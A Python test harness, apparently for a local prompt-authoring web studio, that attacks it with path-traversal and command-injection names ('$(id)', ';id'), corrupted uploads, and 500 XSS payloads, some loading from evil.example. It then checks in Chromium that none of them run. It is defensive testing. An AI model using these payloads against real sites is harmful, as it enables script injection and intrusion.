"""Attacks on the studio at full size: `python tests/attack_studio.py [names uploads scripts]`; the suite does them in small.

names     300 hostile names as datasets, splits, files and zip members: an answer of 302, 400 or 404, and no file outside .studio/
uploads   300 broken files of rows and of prompts: 302 or 400, no 5xx
scripts   500 payloads in 12 fields, in Chromium: no dialog, no error in the console, no violation of the policy"""

import io
import itertools
import json
import random
import re
import shutil
import sys
import tempfile
import zipfile
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).parent))
from load_studio import Client, server  # noqa: E402
from studio_client import make_folder  # noqa: E402

WATCH = """addEventListener("securitypolicyviolation", (event) => console.error("policy: " + event.violatedDirective + " " + event.blockedURI));"""


def payloads(count=500):
    """Scripts in many disguises: what opens a context x what runs x how it is written."""
    opens = [
        "",
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</script>",
        "--></pre>",
        "]]>",
        '" autofocus ',
        "</select></option>",
        "&quot;>",
        "`>",
    ]
    runs = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<a href=javascript:alert(1) id=x>x</a>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<input onfocus=alert(1) autofocus>", "onmouseover=alert(1) x=", "<link rel=stylesheet href=//evil.example/x.css>", "<script src=//evil.example/x.js></script>", "<style>@import '//evil.example'</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<object data=javascript:alert(1)>", "<form action=//evil.example><button>x</button></form>", "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "javascript:alert(1)",
    ]  # fmt: skip
    writes = [str, lambda text: text.replace("<", "&lt;"), str.upper, lambda text: text.replace("alert", "\\u0061lert")]
    every = [opening + write(run) for write, run, opening in itertools.product(writes, runs, opens)]
    return random.Random(1).sample(every, count)


def names(count=300):
    parts = [
        "..",
        ".",
        "~",
        "etc",
        "passwd",
        "con",
        "nul.txt",
        "a\0b",
        "a\nb",
        "%2e%2e",
        "..%2f",
        "C:",
        "\\\\host",
        "ü",
        "a b",
        "-rf",
        "$(id)",
        "`id`",
        ";id",
        "|id",
        "<b>",
        "'",
        '"',
        ".git",
        ".studio",
        "prompts.sqlite",
        "x" * 300,
        "",
        " ",
        "\u202e",
        "a.",
        "{{7*7}}",
    ]
    joined = [separator.join(pair) for separator in ("/", "\\", "/../", "//") for pair in itertools.product(parts, parts)]
    return random.Random(2).sample(joined, count)


def send_file(client, path, field, name, data, **form):
    """A multipart form; its status and page."""
    edge, body = "edge0f6c", b""
    for key, value in {"token": client.token, **form}.items():
        body += f'--{edge}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode("utf-8", "replace")
    quoted = re.sub(r'[\r\n"\0]', "_", name)
    body += (
        f'--{edge}\r\nContent-Disposition: form-data; name="{field}"; filename="{quoted}"\r\n\r\n'.encode()
        + data
        + f"\r\n--{edge}--\r\n".encode()
    )
    client.connection.request("POST", path, body, {"Cookie": client.cookie, "Content-Type": f"multipart/form-data; boundary={edge}"})
    with client.connection.getresponse() as answer:
        return answer.status, answer.read().decode()


def files_outside(folder):
    return sorted(
        str(path.relative_to(folder.parent)) for path in folder.parent.rglob("*") if ".studio" not in path.relative_to(folder.parent).parts
    )


def attack_names(folder, count=300):
    """How often each answer came."""
    before, told = files_outside(folder), {}
    with server(folder) as running:
        client = Client(running.port)
        dataset, _ = client.new_prompts(1)
        for name in names(count):
            answers = [
                client.post("/datasets", name=name)[0],
                send_file(client, f"/dataset/{dataset}/upload", "rows", name + ".jsonl", b'{"a": 1}\n', split=name)[0],
                send_file(client, "/import", "zip", name, zip_of(f"{name}/templates.yaml", b"dataset: x\ntemplates: {}\n"))[0],
            ]
            for answer in answers:
                assert answer in (302, 400), (name, answers)
                told[answer] = told.get(answer, 0) + 1
        client.close()
    assert files_outside(folder) == before, "a file was written outside .studio/"
    return told


def zip_of(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name.replace("\0", "")), data)
    return out.getvalue()


def attack_uploads(folder, count=300):
    chosen, told = random.Random(3), {}
    good = {
        "a.jsonl": b'{"text": "a", "label": 1}\n' * 20, "a.json": json.dumps([{"text": "a"}] * 9).encode(), "a.csv": b"a,b\n1,2\n3,4\n", "a.tsv": b"a\tb\n1\t2\n",
        "p.zip": zip_of("d/templates.yaml", b"dataset: d\ntemplates:\n  a: !Template\n    id: a\n    name: x\n    jinja: y ||| z\n"),
    }  # fmt: skip
    with server(folder) as running:
        client = Client(running.port)
        dataset, _ = client.new_prompts(1)
        for _ in range(count):
            name, data = chosen.choice(list(good.items()))
            data = bytearray(data)
            for _ in range(chosen.randrange(1, 6)):
                at = chosen.randrange(len(data))
                data[at : at + chosen.randrange(3)] = bytes(
                    chosen.choices([0, 10, 34, 44, 91, 123, 128, 255, 48, 92], k=chosen.randrange(4))
                )
            path, field = ("/import", "zip") if name == "p.zip" else (f"/dataset/{dataset}/upload", "rows")
            status, text = send_file(client, path, field, name, bytes(data), split="s")
            assert status in (302, 400), (status, bytes(data), text[-600:])
            told[status] = told.get(status, 0) + 1
        client.close()
    return told


def attack_scripts(folder, chromium, count=500):
    """What ran, a list of sentences: it must be empty. chromium: a browser of playwright."""
    tries, wrong = payloads(count), []
    (folder / "mine/first/README.md").write_text("\n".join(tries))
    (folder / "mine/first/train.jsonl").write_text("".join(json.dumps({"text": text, "label": 0, text: text}) + "\n" for text in tries))
    with server(folder) as running:
        client, desk = Client(running.port), f"http://127.0.0.1:{running.port}"
        dataset, _ = client.new_prompts(1)
        page = chromium.new_page()
        page.add_init_script(WATCH)
        page.on(
            "dialog",
            lambda dialog: (
                (wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()) if dialog.type != "beforeunload" else dialog.accept()
            ),
        )
        page.on(
            "console", lambda message: wrong.append(message.text) if message.type == "error" and "status of 4" not in message.text else None
        )
        page.on("request", lambda request: wrong.append(f"request: {request.url}") if not request.url.startswith(desk) else None)
        for number, text in enumerate(tries):
            raw = "{% raw %}" + text + "{% endraw %}"
            fields = {
                "name": f"{text} {number}"[:200],
                "jinja": "{{ text }} " + raw + " ||| " + raw,
                "answer_choices": raw,
                "reference": text,
                "languages": "en",
            }
            status, told, place = client.post(f"/dataset/{dataset}/new", save="1", **fields)
            assert status == 302, told[-900:]
            client.post(f"{place}/comment", comment=text)
            page.goto(desk + place)
            page.goto(desk + place + "/edit")
            page.locator("#reference").press("End")  # and the live preview, by the page's own script
            with page.expect_response("**/preview"):
                page.locator("#reference").type("!")
            page.goto(f"{desk}/search?" + "&".join(f"{key}={quote(text, safe='')}" for key in ("q", "author")))
            submit(
                page,
                f"/dataset/{dataset}/new",
                {"name": text, "jinja": text, "answer_choices": text, "reference": text, "languages": text, "metrics": text, "save": "1"},
            )
            submit(page, "/datasets", {"name": text})
        for path in [
            "/",
            f"/dataset/{dataset}",
            "/log",
            "/review?state=draft",
            "/contributors",
            *(f"/dataset/{dataset}/rows?offset={at}&prompt=2" for at in range(0, count, 50)),
        ]:
            page.goto(desk + path)
        page.close()
        client.close()
    return wrong


def submit(page, path, fields):
    """Sends a form from within the page, as a person would."""
    with page.expect_navigation():
        page.evaluate(
            """([path, fields]) => {
            const form = document.createElement("form");
            form.method = "post";
            form.action = path;
            for (const [name, value] of Object.entries({...fields, token: document.querySelector("[name=token]")?.value ?? ""})) {
                const input = document.createElement("textarea");
                input.name = name;
                input.value = value;
                form.append(input);
            }
            document.body.append(form);
            form.submit();
        }""",
            [path, fields],
        )


def main():
    with tempfile.TemporaryDirectory() as home:
        for what in sys.argv[1:] or ["names", "uploads", "scripts"]:
            Path(home, what).mkdir()
            folder = make_folder(Path(home, what, "data"))
            if what == "names":
                print("300 hostile names in three places, answers:", attack_names(folder))
            elif what == "uploads":
                print("300 broken uploads, answers:", attack_uploads(folder))
            else:
                from playwright.sync_api import sync_playwright

                with sync_playwright() as play:
                    browser = play.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
                    wrong = attack_scripts(folder, browser)
                    browser.close()
                print(f"500 payloads in 12 fields: {len(wrong)} ran, {wrong[:5]}")
            sys.stdout.flush()


if __name__ == "__main__":
    main()
